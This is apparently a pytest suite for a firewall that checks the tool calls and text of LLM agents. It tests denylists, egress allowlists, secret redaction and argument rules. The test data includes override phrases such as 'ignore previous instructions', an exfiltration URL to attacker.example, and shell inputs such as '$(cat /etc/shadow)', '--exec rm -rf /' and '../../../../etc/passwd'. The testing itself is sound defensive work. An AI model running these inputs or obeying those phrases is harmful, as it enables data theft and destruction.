"""agent-defender's README runs with the import changed, and its names have their shapes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from langchain_classic.agents import AgentExecutor, create_tool_calling_agent
from langchain_core.prompts import ChatPromptTemplate
from openai.types.chat import ChatCompletionMessageCustomToolCall

from edgeward import (
    FirewallCallbackHandler,
    PolicyViolationError,
    ScriptedModel,
    ToolCall,
    check_tool_calls,
    load_policy,
    scan_and_redact,
)
from edgeward.guards.clients.defender import FunctionCall, Status, decision
from edgeward.guards.ledger import History

from .spies import Spy, calls

KEY = "sk-abc123456789012345678"

# The minimal example of agent-defender's README, with the rules that its table of threats needs.
POLICY = r"""
version: 1
description: >
  Default policy for a document-summarizing assistant.
tool_allowlist: [read_doc, summarize, http_fetch, search_kb]
tool_denylist: [send_email, run_shell, delete_file, transfer_funds]
egress_allowlist: [example.com, docs.company.internal]
secret_patterns:
  - {name: groq_key, regex: 'gsk_[A-Za-z0-9]{20,}'}
  - {name: aws_access_key, regex: 'AKIA[0-9A-Z]{16}'}
arg_rules:
  - name: path_traversal
    reason: "path traversal sequence in argument"
    regex: '\.\./|\.\.\\'
    tools: ["*"]
  - name: command_substitution
    reason: "shell command substitution in argument"
    regex: '\$\([^)]*\)|`[^`]*`'
    tools: ["*"]
  - name: local_file
    reason: "a link to a local file"
    regex: '(?i)\bfile:'
  - name: exec_flag
    reason: "option that runs a program"
    regex: '--exec\b'
injection_phrases:
  - ignore previous instructions
  - disregard the above
  - system override
injection_threshold: 0.80
token_budget_per_session: 20000
fail_closed: true
block_message: "[Agent Defender] Action blocked by policy."
"""


@pytest.fixture
def policy_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """`policies/policy.yaml`, where the examples expect it."""
    path = tmp_path / "policies" / "policy.yaml"
    path.parent.mkdir()
    path.write_text(POLICY, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return path


@pytest.mark.parametrize("to", ["someone@example.com", "attacker@evil.com"])
def test_the_readmes_standalone_checks(policy_file: Path, to: str) -> None:
    """What it prints is what it says; a recipient's host that is not allowed is told, too
    (F015, F017, F020)."""
    policy = load_policy("policies/policy.yaml")

    tool_call = ToolCall(
        id="call_1",
        type="function",
        function={"name": "send_email", "arguments": json.dumps({"to": to})},
    )
    findings, summary = check_tool_calls([tool_call], policy)
    blocked = [f for f in findings if f.status.value == "block"]
    denied, *more = blocked[0].reasons
    assert denied == "tool 'send_email' is denied"
    assert bool(more) == to.endswith("evil.com")
    assert summary.status is Status.BLOCK

    redacted_text, check = scan_and_redact("My key is " + KEY, policy, source="user")
    assert redacted_text == "My key is [REDACTED:openai_key]"
    assert check.detail == "redacted in user: openai_key"


def test_the_readmes_places(policy_file: Path) -> None:
    """Its modules are there, with the names that its examples take from them (F020)."""
    from edgeward.pii import scan_and_redact as masks
    from edgeward.policy import Policy
    from edgeward.policy import load_policy as loads
    from edgeward.rules import check_tool_calls as checks
    from edgeward.schemas import ToolCall as Called

    assert (masks, loads, checks) == (scan_and_redact, load_policy, check_tool_calls)
    assert Called is ToolCall
    assert isinstance(loads(policy_file), Policy)


def test_the_readmes_callback(policy_file: Path) -> None:
    """The handler as the executor's own `callbacks`, as the example has it (F040)."""
    spy = Spy("send_email")
    tools = [spy.sync_tool()]
    prompt = ChatPromptTemplate.from_messages(
        [("user", "{input}"), ("placeholder", "{agent_scratchpad}")]
    )
    model = ScriptedModel(turns=[calls(("send_email", {"text": "hi"})), "Done."])
    agent = create_tool_calling_agent(model, tools, prompt)

    handler = FirewallCallbackHandler(policy_path="policies/policy.yaml")

    executor = AgentExecutor.from_agent_and_tools(
        agent=agent,
        tools=tools,
        callbacks=[handler],
    )
    with pytest.raises(PolicyViolationError, match=r"Agent Defender.*'send_email' is denied"):
        executor.invoke({"input": "Mail it."})
    assert not spy.runs


THREATS: list[tuple[str, dict[str, Any], str]] = [
    ("send_email", {"text": "hi"}, "is denied"),
    ("anything", {"text": "hi"}, "is not on the allowlist"),
    ("http_fetch", {"url": "https://attacker.example/collect?x=1"}, "attacker.example"),
    ("read_doc", {"text": "gsk_" + "a1" * 12}, "groq_key"),
    ("read_doc", {"path": "../../../../etc/passwd"}, "path traversal"),
    ("http_fetch", {"url": "file:///etc/passwd"}, "local file"),
    ("search_kb", {"query": "report --exec rm -rf /"}, "runs a program"),
    ("search_kb", {"query": "`whoami`"}, "command substitution"),
    ("search_kb", {"query": "$(cat /etc/shadow)"}, "command substitution"),
]


@pytest.mark.parametrize(("name", "arguments", "said"), THREATS)
def test_the_readmes_threats(name: str, arguments: dict[str, Any], said: str) -> None:
    """Each row of the table of what it catches; the last one, prose, is masked above (F021)."""
    policy = load_policy(_data())
    call = ToolCall("c", "function", {"name": name, "arguments": json.dumps(arguments)})
    (finding,), _ = check_tool_calls([call], policy)
    assert finding.status is Status.BLOCK
    assert any(said in reason for reason in finding.reasons), finding.reasons


def _data() -> dict[str, Any]:
    from edgeward.policies.yaml_file import parse_yaml

    data: dict[str, Any] = parse_yaml(POLICY, name="policy.yaml").data
    return data


def test_a_call_of_a_tool_that_takes_a_text() -> None:
    """As the real SDK gives it beside function calls: judged like behind every other door."""
    policy = load_policy({"version": 2, "tools": {"sql": "allow"}, "egress_allowlist": []})
    for text, status in (("select 1", Status.PASS), ("copy to 'https://evil.test'", Status.BLOCK)):
        custom = {"name": "sql", "input": text}
        call = ChatCompletionMessageCustomToolCall.model_validate(
            {"id": "c1", "type": "custom", "custom": custom}
        )
        ((finding,), _) = check_tool_calls([call], policy)
        assert (finding.tool_call_id, finding.status) == ("c1", status)


def test_a_finding_lists_all_that_is_wrong() -> None:
    """Hosts, secrets, rules, each in its list, and every reason once, the tool's first
    (F018, F019)."""
    arguments = {"url": "https://evil.test", "a": "AKIA" + "A1" * 8, "b": "../x", "c": "../y"}
    call = ToolCall("c", "function", {"name": "read_doc", "arguments": arguments})
    (finding,), summary = check_tool_calls([call], load_policy(_data()))
    assert (finding.tool_call_id, finding.tool_name) == ("c", "read_doc")
    assert finding.hosts == ["evil.test"]
    assert finding.secrets == ["aws_access_key"]
    assert finding.arg_hits == ["path traversal sequence in argument"]
    assert len(finding.reasons) == 3
    assert summary.name == "deterministic_rules"
    assert summary.detail == "; ".join(finding.reasons)
    assert summary.meta == {"blocked_tools": ["read_doc"]}


def test_the_reason_tells_denied_from_unlisted() -> None:
    """A tool that is denied is not also said to be unlisted (F016)."""
    names = ["send_email", "unknown"]
    made = [ToolCall(n, "function", {"name": n, "arguments": ""}) for n in names]
    findings, _ = check_tool_calls(made, load_policy(_data()))
    assert [f.reasons for f in findings] == [
        ["tool 'send_email' is denied"],
        ["tool 'unknown' is not on the allowlist"],
    ]


def test_calls_within_the_policy() -> None:
    """They pass, and the sum says how many."""
    call = ToolCall("c", "function", FunctionCall("read_doc", '{"path": "a.txt"}'))
    (finding,), summary = check_tool_calls([call], load_policy(_data()))
    assert (finding.status.value, finding.reasons) == ("pass", [])
    assert (summary.status.value, summary.detail) == ("pass", "1 tool call(s) within policy")
    assert summary.latency_ms > 0


@pytest.mark.parametrize("word", ["ask", "redact"])
def test_what_may_not_run_as_it_is_is_a_block(word: str) -> None:
    """Whoever reads only `block` must not run what waits for a person or a mask."""
    policy = load_policy({"version": 2, "tools": {"read_doc": word}})
    text = KEY if word == "redact" else "hi"
    call = ToolCall("c", "function", {"name": "read_doc", "arguments": {"text": text}})
    (finding,), _ = check_tool_calls([call], policy)
    assert finding.status is Status.BLOCK
    assert finding.verdict.word == word


def test_a_history_is_heard() -> None:
    """Rules with a budget see what went before."""
    policy = load_policy(_data())
    call = ToolCall("c", "function", {"name": "read_doc", "arguments": "{}"})
    (finding,), _ = check_tool_calls([call], policy, history=History(tokens_used=20_000))
    assert "token budget" in finding.reasons[0]


@pytest.mark.parametrize("function", [None, {}, {"name": None, "arguments": None}, {"name": ""}])
def test_a_call_without_a_name(function: Any) -> None:
    """It has a shape, and is blocked."""
    (finding,), _ = check_tool_calls([ToolCall(function=function)], load_policy("allow_all"))
    assert (finding.status, finding.tool_name) == (Status.BLOCK, "(unnamed)")


def test_calls_compare_by_what_they_say() -> None:
    """As the dataclass that they replace."""
    one, two = (ToolCall("c", "function", {"name": "a", "arguments": "{}"}) for _ in "12")
    assert one == two
    assert one != ToolCall("d", "function", {"name": "a", "arguments": "{}"})
    assert one != "c"
    assert "name='a'" in repr(one)


def test_text_without_anything_to_mask() -> None:
    """It comes back as it is, and the check passes."""
    text, check = scan_and_redact("Nothing here.", load_policy("default"))
    assert text == "Nothing here."
    assert (check.status, check.detail) == (Status.PASS, "no PII in content")
    assert check.meta == {"labels": []}
    assert scan_and_redact("", load_policy("default"))[0] == ""


def test_secrets_come_before_personal_data() -> None:
    """All labels, in order of appearance (F023, F027)."""
    text = f"{KEY} a@example.com 123-45-6789 4111 1111 1111 1111 +1 212-555-0142 203.0.113.9"
    masked, check = scan_and_redact(text, load_policy("default"))
    assert check.status is Status.FLAG
    assert set(check.meta["labels"]) == {
        "openai_key",
        "email",
        "ssn",
        "credit_card",
        "phone",
        "ipv4",
    }
    assert KEY not in masked


def made(*proposed: tuple[str, str, Any], masked: tuple[str, ...] = ()) -> dict[str, Any]:
    """The decision object for calls given as id, name and arguments."""
    policy = load_policy(_data())
    given = [ToolCall(i, "function", {"name": n, "arguments": a}) for i, n, a in proposed]
    return dict(decision(check_tool_calls(given, policy)[0], policy, masked=masked))


def test_a_decision_to_allow() -> None:
    """Nothing was taken out, nothing masked."""
    assert made(("c", "read_doc", "{}")) == {
        "action": "allow",
        "reason": None,
        "rule_fired": None,
        "stripped_tool_calls": [],
        "blocked_calls": [],
    }


def test_a_decision_to_redact() -> None:
    """Something was masked in the text, and every call stands (F026)."""
    found = made(("c", "read_doc", "{}"), masked=("email",))
    assert (found["action"], found["reason"]) == ("redact", "redacted: email")


def test_a_block_is_never_less() -> None:
    """A masked text beside a call that was taken out: the block is what is told
    (F044, F045, F046, F047, X3)."""
    found = made(
        ("c9", "send_email", {"to": "ann@example.com", "body": KEY}),
        ("c2", "read_doc", "{}"),
        ("c1", "read_doc", {"path": "../x"}),
        masked=("email",),
    )
    assert found["action"] == "block"
    assert found["reason"].startswith("tool 'send_email' is denied")
    assert found["rule_fired"] == "tool_denylist"
    assert found["stripped_tool_calls"] == ["c1", "c9"]
    first, second = found["blocked_calls"]
    assert first["name"] == "send_email"
    assert json.loads(first["arguments"]) == {
        "to": "[REDACTED:email]",
        "body": "[REDACTED:openai_key]",
    }
    assert second["reasons"] == ["path traversal sequence in argument"]
    assert json.loads(json.dumps(found)) == found


@pytest.mark.parametrize(
    "arguments",
    [
        '{"a": "QUtJQUlPU0ZPRE5ON0VYQU1QTEU="}',
        '{"a": "AKIA\\u0049OSFODNN7EXAMPLE"}',
        '{"a": "AKIA\u200bIOSFODNN7EXAMPLE"}',
    ],
)
def test_a_disguised_secret_is_not_shown(arguments: str) -> None:
    """Encoded, escaped, interrupted: what is logged of the call does not hold it."""
    found = made(("c", "read_doc", arguments))
    assert found["rule_fired"] == "secret_patterns.aws_access_key"
    assert "[REDACTED:aws_access_key]" in found["blocked_calls"][0]["arguments"]
    assert "EXAMPLE" not in str(found)
    assert "QUtJ" not in str(found)


def test_broken_arguments_are_shown_masked() -> None:
    """What could not be parsed is told as it was written, without its secrets."""
    found = made(("c", "read_doc", '{"a": "' + KEY))
    assert found["rule_fired"] == "arguments"
    assert found["blocked_calls"][0]["arguments"] == '{"a": "[REDACTED:openai_key]'


def test_arguments_that_are_no_json() -> None:
    """They are blocked as what they are."""
    call = ToolCall("c", "function", {"name": "read_doc", "arguments": {"a": object()}})
    (finding,), _ = check_tool_calls([call], load_policy("allow_all"))
    assert finding.status is Status.BLOCK
